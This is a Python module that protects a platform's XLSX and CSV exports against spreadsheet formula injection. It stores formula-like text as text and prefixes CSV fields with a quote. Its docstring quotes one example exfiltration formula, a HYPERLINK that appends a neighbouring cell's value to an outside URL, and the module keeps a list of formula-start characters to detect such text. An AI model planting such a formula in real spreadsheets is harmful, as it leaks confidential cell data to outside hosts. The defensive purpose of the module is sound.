"""The one guard for every spreadsheet the platform writes: text is never run as a formula.

Names come from people and files outside the secretariat (a landscape.yml item, a taxonomy node renamed by a
subcommittee member, a company's description); a text starting with `=` written by openpyxl becomes a live
formula (`=HYPERLINK("http://…?"&K2, "Click")` can send neighbouring confidential cells away when clicked).
Rules:
- XLSX: every workbook comes from `new_workbook()`; each of its sheets' `append` stores a text that a
  spreadsheet would read as a formula (FORMULA_START) as text (cell type `s`), so callers append values as
  before. `text_cell(sheet, value)` is the same guard for a cell made by hand (a styled cell).
- CSV: `csv_text(value)` prefixes such a text with `'` (the spreadsheet convention for "this is text"); the
  member importer takes the quote off again.
`core/tests/test_spreadsheets.py` fails when a module other than this one constructs an openpyxl Workbook.
"""

import datetime

from openpyxl import Workbook
from openpyxl.cell import Cell

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection"): =, +, -, @, tab, CR.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_cell(sheet, value) -> Cell:
    """A cell of `sheet` holding `value`; a text that looks like a formula stays text."""
    cell = Cell(sheet, column=1, row=1, value=value)  # as openpyxl's WriteOnlyCell; append places it
    if looks_like_formula(value):
        cell.data_type = "s"  # text, never a formula
    return cell


def guarded_row(sheet, values) -> list:
    """`values` ready for `sheet.append`: formula-like texts as text cells, the rest unchanged."""
    return [text_cell(sheet, value) if looks_like_formula(value) else value for value in values]


def new_workbook(*, write_only: bool = True) -> Workbook:
    """A workbook whose sheets (created by `create_sheet`, and the default sheet) guard every appended row."""
    workbook = _GuardedWorkbook(write_only=write_only)
    for sheet in workbook.worksheets:
        _guard(sheet)
    return workbook


class _GuardedWorkbook(Workbook):
    def create_sheet(self, title=None, index=None):
        return _guard(super().create_sheet(title, index))


def _guard(sheet):
    append = sheet.append

    def guarded_append(values):
        append(guarded_row(sheet, values))

    sheet.append = guarded_append
    return sheet


def csv_text(value) -> str:
    """One CSV field: dates in ISO form, None empty, a formula-like text prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if looks_like_formula(value) else text
